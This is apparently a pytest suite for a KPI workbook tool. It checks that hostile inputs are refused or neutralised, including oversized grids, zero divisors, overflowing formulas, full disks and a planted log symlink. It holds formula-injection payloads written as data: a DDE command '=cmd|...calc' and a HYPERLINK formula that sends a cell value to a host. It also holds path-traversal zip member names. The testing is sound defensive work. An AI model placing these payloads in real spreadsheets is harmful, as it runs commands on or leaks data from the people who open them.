"""Issue 8 B: hostile inputs that used to corrupt, lose or hang, each answered clearly.

Every test here failed on the code before the fix (the reason is in its docstring), and checks
the answer, not merely that nothing raised: exit codes, the message's sheet, cell and value,
scores equal to the undamaged workbook's, HR's bytes unchanged.
"""

from __future__ import annotations

import csv
import io
import shutil
import time
import tracemalloc
from pathlib import Path

import pandas as pd
import pytest
from support.damaged import FAR_CELL, ROSTER_SHEET, build
from support.rows import E001
from support.workbooks import sample_workbook

from kpi_engine import SchemeError, default_scheme, scheme_from_dict, score
from kpi_workbook.commands.cli import main

HEADCOUNT = 60


def kpi(capsys, *argv: object) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "内部错误" not in out + err, out + err
    return code, out, err


@pytest.fixture(scope="module")
def sample(tmp_path_factory) -> Path:
    return sample_workbook(tmp_path_factory.mktemp("sample"))


@pytest.fixture(scope="module")
def baseline(sample, tmp_path_factory) -> dict[str, list[str]]:
    """The scores CSV of the undamaged sample, by employee id."""
    folder = tmp_path_factory.mktemp("baseline")
    path = shutil.copyfile(sample, folder / "base.xlsx")
    assert main(["compute", str(path), "--csv", str(folder / "base.csv")]) == 1  # the sample's planted errors
    return scores_by_id(folder / "base.csv")


def scores_by_id(path: Path) -> dict[str, list[str]]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    return {r[0]: r[1:] for r in rows[1:]}


# ---------------------------------------------------------------- B1: one far-away cell

def test_one_cell_at_the_end_of_the_grid_costs_nothing(sample, baseline, tmp_path, capsys):
    """Before: every row padded to 16,384 columns; at row 8,192 validate took 1.1 GB and 8.6 s, at
    the last row it died with MemoryError. Now work follows the cells that exist, the far row is
    reported at its cell, and the 60 employees score exactly as without it."""
    path = build("far_cell", sample, tmp_path)
    before = path.read_bytes()
    import kpi_workbook.commands.files  # noqa: F401  (imports are not the file's doing)

    for argv in (["validate", path], ["compute", path, "-o", tmp_path / "out.xlsx", "--csv", tmp_path / "out.csv"],
                 ["next-period", path, "-o", tmp_path / "next.xlsx"]):
        tracemalloc.start()
        start = time.monotonic()
        try:
            code, out, err = kpi(capsys, *argv)
            seconds, (_, peak) = time.monotonic() - start, tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert peak < 150 << 20, f"{argv[0]}: {peak >> 20} MB"
        assert seconds < 20, f"{argv[0]}: {seconds:.1f} s"
        if argv[0] == "validate":
            assert code == 1 and f"{ROSTER_SHEET}!A1048576" in out and "工号为空" in out, out
    assert path.read_bytes() == before
    assert scores_by_id(tmp_path / "out.csv") == baseline


def test_fill_touches_only_the_rows_that_exist(sample, tmp_path, capsys):
    """Before: fill walked every row up to the far cell through openpyxl (1 M cells, 640 MB)."""
    from kpi_workbook.commands.demo import sample_file

    path = build("far_cell", sample, tmp_path)
    tracemalloc.start()
    try:
        code, out, _ = kpi(capsys, "fill", path, sample_file("metrics_2026Q4.csv"), "-o", tmp_path / "filled.xlsx")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert code == 0 and f"匹配员工 {HEADCOUNT} 人" in out
    assert peak < 250 << 20, f"{peak >> 20} MB"


@pytest.mark.parametrize("key, ref", [("beyond_grid_row", "1048577"), ("beyond_grid_column", "XFE900")])
def test_an_address_beyond_excel_is_refused_by_name(key, ref, sample, tmp_path, capsys):
    path = build(key, sample, tmp_path)
    for command in ("validate", "compute", "next-period"):
        code, out, err = kpi(capsys, command, path)
        assert code == 2 and out == ""
        assert path.name in err and f"「{ROSTER_SHEET}」" in err and ref in err and "超出 Excel 范围" in err, err


def test_far_cell_row_reads_as_the_dense_row_it_stands_for(sample, tmp_path):
    from kpi_workbook.pipeline.file_source import FileSource
    from kpi_workbook.pipeline.sources import SparseRow, row_values

    with FileSource(build("far_cell", sample, tmp_path)) as source:
        grid = source.read(ROSTER_SHEET)
    assert len(grid) == 1_048_576
    last = grid[-1]
    assert isinstance(last, SparseRow) and len(last) == 16_384
    assert last[16_383] == 1.0 and last[0] is None and last[-1] == 1.0 and list(row_values(last)) == [1.0]
    assert last[16_380:] == [None, None, None, 1.0]
    assert FAR_CELL == "XFD1048576"


# ---------------------------------------------------------------- B2: constant zero denominators

def scheme_with(**metrics: str):
    data = default_scheme().to_dict()
    for ind in data["indicators"]:
        if ind["id"] in metrics:
            ind["metric"] = metrics[ind["id"]]
    return data


@pytest.mark.parametrize("text", ["sales_actual / 0", "sales_actual / (1 - 1)", "(uv - uv_prev) / 0",
                                  "sales_actual / min(0, 2)"])
def test_dividing_by_a_constant_zero_is_a_scheme_error(text):
    """Before: accepted, every employee became 数据不完整 and validate counted 0 errors."""
    with pytest.raises(SchemeError) as info:
        scheme_from_dict(scheme_with(sales_achievement=text))
    issue = info.value.issues[0]
    assert (issue.item, issue.field) == ("sales_achievement", "metric") and "always 0" in issue.message_en


@pytest.mark.parametrize("place", ["gate", "flag", "carry"])
def test_constant_zero_is_caught_in_gates_flags_and_carry_formulas(place):
    data = default_scheme().to_dict()
    if place == "gate":
        next(i for i in data["indicators"] if i["id"] == "uv_growth")["gate"]["metric"] = "natural_uv / 0"
        where = ("uv_growth", "gate.metric")
    elif place == "flag":
        data["flags"][0]["when"] = "sales_actual / (2 - 2) < 0.8"
        where = ("sales_review", "when")
    else:
        next(f for f in data["inputs"] if f["id"] == "aov_prev")["carry"] = "sales_actual / 0"
        where = ("aov_prev", "carry")
    with pytest.raises(SchemeError) as info:
        scheme_from_dict(data)
    assert [(i.item, i.field) for i in info.value.issues] == [where]


def test_an_expression_that_is_zero_is_named_with_its_value():
    """Before: sales_actual / (sales_target - sales_target) said 「目标销售额」为 0 beside 1090000."""
    scheme = scheme_from_dict(scheme_with(sales_achievement="sales_actual / (sales_target - sales_target)"))
    result = score(pd.DataFrame([E001, dict(E001, employee_id="E002", inventory_begin=0, inventory_end=0)]), scheme)
    p = result.problems
    expr = p[p.code == "zero_expression"]
    assert list(expr.employee_id) == ["E001", "E002"]
    assert expr.problem.iloc[0] == "「目标销售额 - 目标销售额」的值为 0，无法作为分母，销售额达成率无法计算"
    # both inventories 0: each column named at its own cell, as before
    zero = p[(p.code == "zero_division") & (p.employee_id == "E002")]
    assert set(zero.field) == {"inventory_begin", "inventory_end"}
    assert pd.isna(result.total["E001"]) and pd.isna(result.total["E002"])


def test_validate_reports_a_zero_denominator_in_the_scheme_sheet_at_its_cell(sample, tmp_path, capsys):
    from openpyxl import load_workbook

    path = tmp_path / "zero.xlsx"
    wb = load_workbook(sample)
    ws = wb["指标配置"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == "sales_actual / sales_target")
    cell.value = "sales_actual / 0"
    wb.save(path)
    code, out, _ = kpi(capsys, "validate", path)
    assert code == 1 and f"指标配置!{cell.coordinate}" in out and "always 0" not in out, out


# ---------------------------------------------------------------- zip members outside the package

def test_members_named_outside_the_package_are_refused(sample, tmp_path, capsys):
    """Before: ../../evil.txt and /etc/evil.txt were copied into the computed workbook."""
    path = build("unsafe_member_names", sample, tmp_path)
    code, out, err = kpi(capsys, "compute", path, "-o", tmp_path / "out.xlsx")
    assert code == 2 and "不安全的内部文件名" in err and "../../evil.txt" in err and path.name in err
    assert not (tmp_path / "out.xlsx").exists()


# ---------------------------------------------------------------- weak spots: schemes that overflow or nest

@pytest.mark.parametrize("change, where", [
    (lambda d: d["indicators"][0].update(metric="+".join(["sales_actual"] * 16_000)), ("sales_achievement", "metric")),
    (lambda d: d["indicators"][0].update(metric="sales_actual * 1" + "0" * 400), ("sales_achievement", "metric")),
    (lambda d: d["indicators"][0].update(weight=10 ** 400), ("sales_achievement", "weight")),
    (lambda d: d["indicators"][0].update(weight=1e300), ("sales_achievement", "weight")),
    (lambda d: d["lookups"]["turnover_per_quarter"].update(apparel="four"), ("lookups.turnover_per_quarter", "apparel")),
    (lambda d: d["grades"].append({"grade": "E"}), ("grades", "min")),
    (lambda d: d["seasonal"].update(Q2=0), ("seasonal", "Q2")),
    (lambda d: d.update(inputs="not a list"), ("inputs", "")),
])
def test_a_scheme_that_overflows_or_misshapes_is_a_located_scheme_error(change, where):
    """Before: OverflowError, RecursionError, raw ValueError/KeyError ("内部错误"), or a total of inf
    graded S. Now every one is a SchemeError naming the item and field."""
    data = default_scheme().to_dict()
    change(data)
    with pytest.raises(SchemeError) as info:
        scheme_from_dict(data)
    assert where in [(i.item, i.field) for i in info.value.issues], info.value.issues


def test_overflowing_and_deep_cells_in_the_scheme_sheet_are_located(sample, tmp_path, capsys):
    from openpyxl import load_workbook

    path = tmp_path / "hostile_scheme.xlsx"
    wb = load_workbook(sample)
    ws = wb["指标配置"]
    cells = {}
    for row in ws.iter_rows():
        for c in row:
            if c.value == "sales_actual / sales_target":
                c.value, cells["metric"] = "+".join(["sales_actual"] * 16_000), c.coordinate
            elif c.value == "each=3; expected_per_quarter=2":
                c.value, cells["params"] = "each=" + "[" * 32_000 + "]" * 32_000, c.coordinate
            elif c.value == "natural_uv / uv >= 0.6; unit=%; label_zh=自然流量占比; label_en=\"Organic traffic share\"":
                cells["gate"] = c.coordinate
    weight = next(c for c in ws["D"] if c.value == 30 and ws.cell(c.row, 2).value == "sales_achievement")
    weight.value, cells["weight"] = "1" + "0" * 400, weight.coordinate
    wb.save(path)
    code, out, _ = kpi(capsys, "validate", path)
    assert code == 1, out
    for key in ("metric", "params", "weight"):
        assert f"指标配置!{cells[key]}" in out, (key, out)
    assert all(len(line) < 400 for line in out.splitlines()), "a 16,000-term formula is echoed whole"


# ---------------------------------------------------------------- B3: text from data is never a formula

FORMULAS = ["=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://example.com/?"&B3, "click")', "+1+2", "@SUM(A1)"]


def formula_cells(path: Path) -> list[str]:
    """Every worksheet part of ``path`` that holds a formula element, with the formula's text."""
    import re
    import zipfile

    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += [f"{name}: {m}" for m in re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", zf.read(name).decode())]
    return found


def test_text_that_looks_like_a_formula_stays_text_in_every_sheet_we_write(sample, tmp_path, capsys):
    """Before: text like =1+1 stored as text in 指标配置 (names, units, advice) came out of next-period
    as live <f> formulas in 说明 and 指标配置 (=cmd|… is a DDE attack on the person who opens it)."""
    from openpyxl import load_workbook

    path = tmp_path / "formulas.xlsx"
    wb = load_workbook(sample)
    ws = wb["指标配置"]
    heads = {}
    typed = []
    table = ""
    for row in ws.iter_rows():
        marker = row[0].value
        if isinstance(marker, str) and marker.startswith("#") and marker != "#note":
            heads, table = {}, marker
        if row[0].value in ("id", "name_zh", "indicator", "table", "grade", "check", "key", "period"):
            heads = {c.value: c.column for c in row if c.value} if table != "#groups" else {}
            continue  # (indicators name their group: renaming groups would be another test)
        for field in ("name_zh", "advice_zh", "unit", "label_zh", "expected_zh", "value"):
            col = heads.get(field)
            if col and row[0].value not in (None, "#note") and not str(row[0].value).startswith("#") \
                    and isinstance(ws.cell(row[0].row, col).value, str) and field != "value":
                text = FORMULAS[len(typed) % len(FORMULAS)]
                cell = ws.cell(row[0].row, col)
                cell.value, cell.data_type = text, "s"
                typed.append(text)
    roster = wb["销售与流量"]
    roster["B3"].value, roster["B3"].data_type = FORMULAS[1], "s"
    wb.save(path)
    assert len(typed) > 40 and formula_cells(path) == []
    code, out, err = kpi(capsys, "next-period", path, "-o", tmp_path / "next.xlsx")
    assert code == 0, err
    assert formula_cells(tmp_path / "next.xlsx") == []
    kpi(capsys, "compute", path, "-o", tmp_path / "computed.xlsx")
    assert formula_cells(tmp_path / "computed.xlsx") == []
    nxt = load_workbook(tmp_path / "next.xlsx")
    texts = {c.value for w in nxt.worksheets for row in w.iter_rows() for c in row if isinstance(c.value, str)}
    assert set(FORMULAS) <= texts  # kept, as text


def test_choices_that_cannot_go_in_a_drop_down_are_left_out_of_it():
    from openpyxl import Workbook

    from kpi_engine.model import InputField
    from kpi_workbook.sheets.input_sheets import _validation

    ws = Workbook().active
    field = InputField("category", "品类", "Category", "choice", choices={'a"b': ("x,y",), "ok": ("好",)})
    _validation(ws, field, "A3:A10", "zh")
    (dv,) = ws.data_validations.dataValidation
    assert dv.formula1 == '"好,ok"'
    long = InputField("team", "团队", "Team", "choice", choices={f"team{i:03d}": () for i in range(60)})
    ws2 = Workbook().active
    _validation(ws2, long, "A3:A10", "zh")
    assert ws2.data_validations.dataValidation == []  # over 255 characters: Excel would repair the file


# ---------------------------------------------------------------- B4: HR's sheets are never ours

def sheet_xml(path: Path, sheet: str) -> bytes:
    import zipfile

    from support.damaged import sheet_part

    with zipfile.ZipFile(path) as zf:
        return zf.read(sheet_part(path, sheet))


def with_hr_sheets(sample: Path, out: Path, names: list[str]) -> Path:
    from openpyxl import load_workbook

    wb = load_workbook(sample)
    for i, name in enumerate(names):
        ws = wb.create_sheet(name)
        ws["A1"], ws["B2"] = f"HR 的表 {name}", i + 1
    wb.save(out)
    return out


def test_hr_sheets_named_like_english_results_survive_compute(sample, tmp_path, capsys):
    """Before: in a Chinese workbook, HR's sheets Summary / Validation / Scores were deleted by an
    in-place compute without a word, because the English result names counted as ours."""
    path = with_hr_sheets(sample, tmp_path / "hr.xlsx", ["Summary", "Validation", "Scores"])
    before = {n: sheet_xml(path, n) for n in ("Summary", "Validation", "Scores")}
    for _ in range(2):  # and again: the second compute replaces only what the first one made
        code, out, err = kpi(capsys, "compute", path)
        assert code == 1, err
        after = {n: sheet_xml(path, n) for n in before}
        assert after == before
    from openpyxl import load_workbook

    names = load_workbook(path, read_only=True).sheetnames
    assert {"得分", "扣分明细", "改进指南", "汇总", "校验", "Summary", "Validation", "Scores"} <= set(names)
    assert names.count("得分") == 1


def test_a_sheet_of_hr_named_like_a_result_is_never_replaced(sample, tmp_path, capsys):
    path = with_hr_sheets(sample, tmp_path / "own.xlsx", ["得分"])
    before = path.read_bytes()
    code, out, err = kpi(capsys, "compute", path)
    assert code == 2 and "「得分」" in err and "不是本工具生成的" in err and "改名" in err, err
    assert path.read_bytes() == before


def test_a_workbook_computed_before_the_record_owns_its_results(sample, tmp_path, capsys):
    """Workbooks computed by earlier versions have no owned_sheets record: their results (in the
    workbook's language) are still replaced, HR's sheets still kept. (Such versions wrote the five
    result sheets of RESULT_KEYS: the pay sheet came later, with the record, so it is taken out of
    the package here, as an earlier version's book never had it.)"""
    import re
    import zipfile

    from support.damaged import rewrite_zip, sheet_part

    path = shutil.copyfile(sample, tmp_path / "old.xlsx")
    assert kpi(capsys, "compute", path)[0] == 1
    part = sheet_part(path, "_kpi_meta")
    with zipfile.ZipFile(path) as zf:
        xml, book = zf.read(part).decode(), zf.read("xl/workbook.xml").decode()
    legacy = re.sub(r'<row r="(\d+)"[^>]*>(?:(?!</row>).)*owned_sheets(?:(?!</row>).)*</row>', "", xml)
    assert "owned_sheets" not in legacy and "computed_at" in legacy
    without_pay = re.sub(r'<sheet\b[^>]*\bname="绩效工资"[^>]*/>', "", book)  # whatever the attributes' order
    assert without_pay != book
    old = rewrite_zip(path, tmp_path / "legacy.xlsx", {part: legacy.encode(), "xl/workbook.xml": without_pay.encode()})
    code, _, err = kpi(capsys, "compute", old)
    assert code == 1, err


# ---------------------------------------------------------------- B5: a ragged roster

def test_a_roster_with_trailing_commas_is_refused_by_line(tmp_path, capsys):
    """Before: a trailing comma on each data row made pandas take 工号 as the index: kpi new exited 0
    with 工号 holding the names and 姓名 the teams, and fill then matched nobody."""
    roster = tmp_path / "roster.csv"
    roster.write_text("工号,姓名,团队\nE1,张三,一组,\nE2,李四,一组,\n", encoding="utf-8-sig")
    code, out, err = kpi(capsys, "new", "--period", "2026-Q4", "--roster", roster, "-o", tmp_path / "new.xlsx")
    assert code == 2 and "roster.csv" in err and "第 2 行有 4 个" in err and "第 3 行有 4 个" in err, err
    assert "3 个字段" in err and "逗号" in err
    assert not (tmp_path / "new.xlsx").exists()


def test_a_short_row_is_refused_and_a_sound_roster_reads_as_typed(tmp_path, capsys):
    roster = tmp_path / "short.csv"
    roster.write_text("工号,姓名,团队\nE1,张三\n", encoding="utf-8")
    code, _, err = kpi(capsys, "new", "--period", "2026-Q4", "--roster", roster, "-o", tmp_path / "a.xlsx")
    assert code == 2 and "第 2 行有 2 个" in err and "逗号" not in err
    good = tmp_path / "good.csv"
    good.write_text("工号,姓名,团队\n\n007,\"王, 五\",一组\n", encoding="gbk")
    code, _, err = kpi(capsys, "new", "--period", "2026-Q4", "--roster", good, "-o", tmp_path / "b.xlsx")
    assert code == 0, err
    from openpyxl import load_workbook

    ws = load_workbook(tmp_path / "b.xlsx")["销售与流量"]
    assert [ws["A3"].value, ws["B3"].value, ws["C3"].value] == ["007", "王, 五", "一组"]


# ---------------------------------------------------------------- B6: a full disk

LIMITED = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing us
resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
from kpi_workbook.commands.cli import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.skipif(not hasattr(__import__("os"), "getuid"), reason="needs RLIMIT_FSIZE (POSIX)")
def test_writes_that_fail_half_way_say_which_file_and_print_no_traceback(sample, tmp_path):
    """Before: new, fill and next-period printed "Exception ignored in: ZipFile.__del__ … OSError",
    and next-period named the input instead of the output. A file-size limit makes every write
    fail half-way in a real process, as a full disk does."""
    import os
    import subprocess
    import sys

    from kpi_workbook.commands.demo import sample_file

    book = shutil.copyfile(sample, tmp_path / "book.xlsx")
    before = book.read_bytes()
    script = LIMITED.format(limit=30_000)  # the sample is ~67 KB: every workbook we write is larger
    runs = {
        "new.xlsx": ["new", "--period", "2026-Q4", "--roster", sample_file("roster.csv"), "-o", "new.xlsx"],
        "next.xlsx": ["next-period", "book.xlsx", "-o", "next.xlsx"],
        "filled.xlsx": ["fill", "book.xlsx", sample_file("metrics_2026Q4.csv"), "-o", "filled.xlsx"],
        "kpi_donor_": ["compute", "book.xlsx", "-o", "computed.xlsx"],
    }
    for named, argv in runs.items():
        proc = subprocess.run([sys.executable, "-c", script, *map(str, argv)], cwd=tmp_path, capture_output=True,
                              text=True, encoding="utf-8", timeout=120, env={**os.environ, "PYTHONIOENCODING": "utf-8"})
        assert proc.returncode == 2, (argv, proc.stderr)
        assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr, proc.stderr
        first = proc.stderr.splitlines()[0]
        assert first.startswith("错误：无法写入") and named in first and "book.xlsx" not in first, first
    assert book.read_bytes() == before
    assert sorted(os.listdir(tmp_path)) == ["book.xlsx"]  # no output, no temp or lock file


# ---------------------------------------------------------------- weak spots of the write path

def test_an_output_that_is_a_folder_is_named(sample, tmp_path, capsys):
    """Before: -o DIR reported the temp file created inside DIR."""
    folder = tmp_path / "out"
    folder.mkdir()
    for argv in (["compute", sample, "-o", folder], ["next-period", sample, "-o", folder],
                 ["new", "--period", "2026-Q4", "-o", folder]):
        code, out, err = kpi(capsys, *argv)
        assert code == 2 and f"{folder} 是文件夹" in err and ".tmp" not in err and ".~" not in err, err
    assert list(folder.iterdir()) == []


@pytest.mark.skipif(not hasattr(__import__("os"), "symlink"), reason="needs symbolic links")
def test_compute_in_place_through_a_link_keeps_the_link(sample, tmp_path, capsys):
    """Before: os.replace put the computed file where the link was; the real file kept old data."""
    real = shutil.copyfile(sample, tmp_path / "real.xlsx")
    link = tmp_path / "link.xlsx"
    link.symlink_to(real)
    code, _, err = kpi(capsys, "compute", link)
    assert code == 1, err
    assert link.is_symlink() and link.resolve() == real.resolve()
    from openpyxl import load_workbook

    assert "得分" in load_workbook(real, read_only=True).sheetnames


KILLED = """
import os, signal, sys
from kpi_workbook.ooxml import transplant as package
real = package._put
def die(*args, **kwargs):  # half-way through writing the workbook: the temp file, the lock and the donor exist
    os.kill(os.getpid(), signal.SIGKILL)
package._put = die
from kpi_workbook.commands.cli import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.skipif(not hasattr(__import__("signal"), "SIGKILL"), reason="needs kill -9")
def test_what_a_killed_compute_leaves_is_cleared_by_the_next_run(sample, tmp_path, capsys, monkeypatch):
    """Before: after kill -9 the temp file, the .kpi.lock and the kpi_donor_* folder stayed for good."""
    import os
    import subprocess
    import sys
    import tempfile

    scratch = tmp_path / "tmp"
    scratch.mkdir()
    book = shutil.copyfile(sample, tmp_path / "book.xlsx")
    before = book.read_bytes()
    env = {**os.environ, "TMPDIR": str(scratch), "PYTHONIOENCODING": "utf-8"}
    proc = subprocess.run([sys.executable, "-c", KILLED, "compute", str(book)], env=env, capture_output=True, timeout=120)
    assert proc.returncode == -9
    left = sorted(os.listdir(tmp_path))
    assert any(n.startswith(".~book.xlsx.") and n.endswith(".tmp") for n in left), left
    assert ".~book.xlsx.kpi.lock" in left and any(n.startswith("kpi_donor_") for n in os.listdir(scratch))
    assert book.read_bytes() == before
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    code, _, err = kpi(capsys, "compute", book)
    assert code == 1, err
    assert sorted(os.listdir(tmp_path)) == ["book.xlsx", "tmp"] and os.listdir(scratch) == []


def test_the_error_log_is_a_new_private_file_that_follows_no_link(tmp_path, capsys, monkeypatch):
    """Before: every internal error went to one fixed kpi_error.log in the shared temp folder, opened
    through any symbolic link another user had planted there."""
    import os
    import tempfile

    from kpi_workbook.commands import cli

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (tmp_path / "kpi_error.log").symlink_to(victim)

    def boom(args):
        raise RuntimeError("unexpected")

    monkeypatch.setattr(cli, "_run", boom)
    code = cli.main(["validate", "x.xlsx"])
    err = capsys.readouterr().err
    assert code == 2 and "内部错误" in err and "RuntimeError" in err
    log = Path(err.split("详细信息已写入 ")[1].split()[0].rstrip("。"))
    assert log.is_file() and "RuntimeError: unexpected" in log.read_text(encoding="utf-8")
    assert victim.read_text() == "keep me"
    if os.name == "posix":
        assert log.stat().st_mode & 0o077 == 0 and log.parent.name == f"kpi-{os.getuid()}"


def test_text_beyond_excel_s_cell_limit_is_cut_and_said(sample, tmp_path, capsys):
    """Before: a 40,000-character name went into the result sheets whole, a file Excel must repair."""
    import re
    import zipfile

    from openpyxl import load_workbook
    from support.damaged import rewrite_zip, sheet_part

    part = sheet_part(sample, "销售与流量")  # written at the zip level: openpyxl itself would cut it
    with zipfile.ZipFile(sample) as zf:
        xml = zf.read(part).decode()
    long = f'<c r="B3" t="inlineStr"><is><t>{"长" * 40_000}</t></is></c>'
    xml, n = re.subn(r'<c r="B3"[^>]*?(?:/>|>.*?</c>)', long, xml, count=1)
    assert n == 1
    path = rewrite_zip(sample, tmp_path / "long.xlsx", {part: xml.encode()})
    code, out, err = kpi(capsys, "compute", path)
    ws = load_workbook(path, read_only=True)["得分"]
    names = [r[1] for r in ws.iter_rows(min_row=3, max_col=2, values_only=True)]
    assert max(len(n or "") for n in names) == 32_767
    problems = load_workbook(path, read_only=True)["校验"]
    texts = [r[5] for r in problems.iter_rows(min_row=3, values_only=True)]
    assert any(t and "32,767" in t and "已截断" in t for t in texts), texts
